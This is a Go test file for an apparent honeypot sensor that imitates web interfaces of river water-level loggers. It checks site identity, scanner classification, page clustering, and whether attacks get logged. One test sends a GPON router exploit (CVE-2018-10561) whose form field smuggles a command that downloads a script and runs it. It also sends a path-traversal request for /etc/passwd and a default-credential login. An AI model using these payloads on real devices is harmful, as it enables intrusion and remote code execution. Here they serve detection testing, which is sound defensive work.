package ics_test

import (
	"context"
	"io"
	"io/fs"
	"net/http"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/kansoku/kansoku/internal/event"
	"github.com/kansoku/kansoku/internal/scan"
	"github.com/kansoku/kansoku/internal/scan/cluster"
	scanhttp "github.com/kansoku/kansoku/internal/scan/modules/http"
	"github.com/kansoku/kansoku/internal/sensor"
	_ "github.com/kansoku/kansoku/internal/sensor/http"
	"github.com/kansoku/kansoku/internal/sensor/ics"
	"github.com/kansoku/kansoku/internal/sensortest"
	"github.com/kansoku/kansoku/internal/webprofile"
)

func startWeb(t *testing.T, site string) *sensortest.Instance {
	t.Helper()
	return sensortest.Start(t, sensortest.Options{Factory: "http", Config: "profile: logger-" + site + "\ntiming: false\nfetch: false\n"}, sensor.DefaultLimits())
}

// TestWebUIMatchesSite: each site's web UI names the same facility and
// location as its protocols, and the project's scanner classifies the page
// as the site's device class.
func TestWebUIMatchesSite(t *testing.T) {
	profs, err := webprofile.Defaults()
	if err != nil {
		t.Fatal(err)
	}
	for _, id := range ics.Sites() {
		site, _ := ics.LoadSite(id)
		wp := webprofile.ByName(profs, "logger-"+id)
		if wp == nil {
			t.Fatalf("no web profile for site %s", id)
		}
		ws := wp.Instantiate([]byte("x"))
		if ws.Identity["facility"] != site.Facility || ws.Identity["location"] != site.Location {
			t.Errorf("%s: web UI shows %q / %q, the site is %q / %q", id, ws.Identity["facility"], ws.Identity["location"], site.Facility, site.Location)
		}
		if !strings.Contains(string(ws.Header), "Server: "+site.Identity.WebServer) {
			t.Errorf("%s: web server header %q, site says %q", id, ws.Header, site.Identity.WebServer)
		}
		in := startWeb(t, id)
		ap := netip.MustParseAddrPort(in.Addr)
		ctx, cancel := context.WithTimeout(context.Background(), sensortest.Wait)
		st, res, err := scanhttp.Module{}.Scan(ctx, scan.Target{IP: ap.Addr(), Port: ap.Port(), Timeout: sensortest.Wait})
		cancel()
		if st != scan.StatusSuccess {
			t.Fatalf("%s: scan %s %v", id, st, err)
		}
		if r := res.(*scanhttp.Result); !strings.Contains(r.Title, site.Facility) {
			t.Errorf("%s: title %q lacks the facility", id, r.Title)
		}
		hr := &scan.HostResult{IP: ap.Addr(), Port: ap.Port(), Data: map[string]scan.ModuleResult{"http": {Status: st, Result: res}}}
		scan.Classify(scan.DefaultRules(), hr)
		if hr.Classification == nil || hr.Classification.DeviceType != site.DeviceClass {
			t.Errorf("%s: web UI classified %+v, want %s", id, hr.Classification, site.DeviceClass)
		}
	}
}

// TestWebUICaptures: a login attempt, a path scan and an exploit request
// against the river logger's UI become events, the exploit with its CVEs.
func TestWebUICaptures(t *testing.T) {
	in := startWeb(t, "river")
	base := "http://" + in.Addr
	cl := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }, Timeout: sensortest.Wait}
	resp, err := cl.PostForm(base+"/cgi-bin/login.cgi", url.Values{"user": {"admin"}, "passwd": {"suii1234"}})
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	for _, p := range []string{"/cgi-bin/../../../../etc/passwd", "/phpmyadmin/", "/.env"} {
		if resp, err := cl.Get(base + p); err == nil {
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
		}
	}
	body := "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`wget+http://192.0.2.7/x.sh+-O+->/tmp/x;sh+/tmp/x`&ipv=0"
	if resp, err := cl.Post(base+"/GponForm/diag_Form?images/", "application/x-www-form-urlencoded", strings.NewReader(body)); err == nil {
		resp.Body.Close()
	}
	evs := in.Recorder.WaitFor(t, "captures", sensortest.Wait, func(evs []*event.Event) bool {
		return sensortest.Count(evs, "http.request", nil) >= 5 && sensortest.Count(evs, "login.failed", nil)+sensortest.Count(evs, "login.success", nil) >= 1
	})
	var login, exploit, scanned bool
	for _, e := range evs {
		switch {
		case strings.HasPrefix(e.Kind, "login.") && e.Text("username") == "admin" && e.Text("password") == "suii1234":
			login = true
		case e.Kind == "http.request" && strings.Contains(e.Text("uri"), "diag_Form"):
			cves, _ := e.Data["cves"].([]string)
			exploit = strings.Contains(strings.Join(cves, " "), "CVE-2018-10561")
		case e.Kind == "http.request" && e.Text("uri") == "/.env" && e.Int("status") == 404:
			scanned = true
		}
	}
	if !login || !exploit || !scanned {
		t.Errorf("login %v, exploit with CVE %v, path scan %v", login, exploit, scanned)
	}
}

// TestWebUIClusterExtraction deploys the river logger's UI at three
// facilities: the scanner's clustering groups the pages as one template
// and extracts each facility name, as it does for the real products.
func TestWebUIClusterExtraction(t *testing.T) {
	site, _ := ics.LoadSite("river")
	sub, err := fs.Sub(os.DirFS("web"), "logger-river")
	if err != nil {
		t.Fatal(err)
	}
	var pages []cluster.Page
	names := []string{"多摩川中流水位観測所", "荒川上流水位観測所", "利根川下流水位観測所"}
	for i, name := range names {
		dir := filepath.Join(t.TempDir(), "p")
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		err := fs.WalkDir(sub, ".", func(p string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() {
				return err
			}
			b, _ := fs.ReadFile(sub, p)
			if p == "profile.yaml" {
				b = []byte(strings.Replace(string(b), site.Facility, name, 1))
			}
			return os.WriteFile(filepath.Join(dir, p), b, 0o644)
		})
		if err != nil {
			t.Fatal(err)
		}
		ps, err := webprofile.LoadFS(os.DirFS(filepath.Dir(dir)), "variants")
		if err != nil {
			t.Fatal(err)
		}
		a := ps[0].Instantiate([]byte{byte(i)}).Find("GET", "/", "")
		pages = append(pages, cluster.Page{Key: name, Port: 80, Body: a.Body})
	}
	res := cluster.Analyze(pages, cluster.Options{})
	if len(res.Clusters) != 1 {
		t.Fatalf("%d clusters: %+v", len(res.Clusters), res.Clusters)
	}
	for _, name := range names {
		if got := res.Labels[name]; len(got) == 0 || got[0] != name {
			t.Errorf("labels of %s: %q", name, got)
		}
	}
}
